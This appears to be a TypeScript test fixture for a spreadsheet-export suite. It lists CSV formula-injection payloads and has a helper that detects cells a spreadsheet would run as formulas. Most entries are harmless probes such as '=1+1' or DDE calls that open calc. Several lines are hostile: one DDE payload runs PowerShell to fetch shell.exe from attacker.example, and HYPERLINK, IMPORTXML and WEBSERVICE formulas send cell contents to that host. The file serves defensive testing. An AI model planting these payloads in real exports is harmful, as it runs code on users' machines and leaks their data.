/**
 * Formula-injection (CSV injection) payloads for the export suites: ASCII triggers, DDE,
 * leading white space of every kind, full-width forms, multi-line cells, quotes and separators.
 * At least 60; each is a text a customer name, line description or custom field may carry.
 */
const CORE = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
  '=HYPERLINK("https://attacker.example/?leak="&A1,"Click")',
  '=IMPORTXML(CONCAT("https://attacker.example/?",A1),"//a")',
  '=WEBSERVICE("https://attacker.example/"&A1)',
  "=2+5+cmd|' /C calc'!A0",
  '+1+1',
  "+cmd|' /C calc'!A0",
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '@import',
  '=DDE("cmd";"/C calc";"!A0")',
  'DDE ("cmd";"/C calc";"!A0")',
  '=SUM(A1:A10)',
  '=1=1',
  '=-1',
  '="=1+1"',
  "='x'",
];

const WHITE = [' ', '  ', '\t', '\u00A0', '\u3000', '\u2003', '\u200B', '\uFEFF', '\r', '\n'];
const FULL_WIDTH = ['\uFF1D1+1', '\uFF0B1+1', '\uFF0D1+1', '\uFF20SUM(1)', '\uFF1DHYPERLINK("x")'];
const MULTI_LINE = [
  '\n=1+1',
  '\r\n=1+1',
  '=1+1\nsecond line',
  'first line\n=1+1',
  "a\r\n+cmd|'/C calc'!A0",
  '"\n=1+1',
  '\t=1+1',
  '\r=1+1',
  '\t',
  '\n',
];
const SEPARATORS = [
  '=1+1,=2+2',
  '"=1+1"',
  '""=1+1',
  '=1+1;=2+2',
  '=A1&","&B1',
  ',=1+1',
  '"","=1+1',
];

export const CSV_PAYLOADS: readonly string[] = [
  ...CORE,
  ...WHITE.map((w) => `${w}=1+1`),
  ...WHITE.slice(0, 4).map((w) => `${w}+cmd|'/C calc'!A0`),
  ...FULL_WIDTH,
  ...FULL_WIDTH.map((f) => ` ${f}`),
  ...MULTI_LINE,
  ...SEPARATORS,
  '  -2+3',
  '\u00A0@SUM(1)',
];

/**
 * Our own reading of "a spreadsheet would run this" (independent of src/exports/neutralise.ts):
 * after any leading white space, control or invisible format characters, a tab / CR / LF, the
 * minus sign U+2212, or a character whose compatibility form (NFKC) starts with `= + - @`.
 */
export function wouldRunAsFormula(cell: string): boolean {
  const skipped = /^[\s\p{Cc}\p{Cf}]*/u.exec(cell)?.[0] ?? '';
  if (/[\t\r\n]/.test(skipped)) return true;
  const first = String.fromCodePoint(cell.codePointAt(skipped.length) ?? 0x20);
  return first === '\u2212' || /^[=+\-@]/.test(first.normalize('NFKC'));
}
